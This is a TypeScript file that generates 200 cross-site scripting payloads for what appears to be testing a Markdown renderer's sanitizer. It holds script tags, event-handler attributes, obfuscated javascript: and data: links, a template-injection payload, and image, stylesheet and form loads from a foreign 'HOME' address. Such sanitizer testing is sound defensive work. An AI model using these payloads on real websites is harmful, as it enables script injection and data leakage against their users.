/** Ways to run a script or to call home that have worked somewhere. `N` is the payload's number, `HOME` a foreign address. */
const VECTORS = [
  '<script>pwned(N)</script>',
  '<img src=x onerror=pwned(N)>',
  '<svg onload=pwned(N)>',
  '<svg><script>pwned(N)</script></svg>',
  '<iframe srcdoc="<script>parent.pwned(N)</script>"></iframe>',
  '<a href="javascript:pwned(N)">click</a>',
  '[click](javascript:pwned(N))',
  '[click](JaVaScRiPt:pwned(N))',
  '[click](java\tscript:pwned(N))',
  '[click](data:text/html,<script>pwned(N)</script>)',
  '![picture](HOME/N.png)',
  '![picture](javascript:pwned(N))',
  '<javascript:pwned(N)>',
  '"><img src=x onerror=pwned(N)><"',
  "'-pwned(N)-'",
  "{{constructor.constructor('pwned(N)')()}}",
  '<details open ontoggle=pwned(N)><summary>x</summary></details>',
  '<style>@import "HOME/N.css";</style><link rel=stylesheet href=HOME/N.css>',
  '<object data="javascript:pwned(N)"></object><embed src="HOME/N.swf">',
  '<input autofocus onfocus=pwned(N)><form action=HOME><button>x</button></form>',
];

/** Places in a Markdown text, each read by another part of the renderer. */
const WRAPS = [
  (text: string) => text,
  (text: string) => `**${text}**`,
  (text: string) => `\`${text}\``,
  (text: string) => `\`\`\`html\n${text}\n\`\`\``,
  (text: string) => `- one\n  - ${text}`,
  (text: string) => `| a | b |\n|---|---|\n| ${text} | c |`,
  (text: string) => `> ${text}`,
  (text: string) => `[${text}](https://example.org/${text})`,
  (text: string) => `# ${text.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;')}`,
  (text: string) => `\u202e\u0000${text.toUpperCase().replaceAll('PWNED', 'pwned')}\\`,
];

/** Every vector in every place: 200. */
export function xssPayloads(home: string): string[] {
  return WRAPS.flatMap((wrap) => VECTORS.map((vector) => wrap(vector))).map((text, number) =>
    text.replace(/\bN\b/g, String(number)).replaceAll('HOME', home),
  );
}
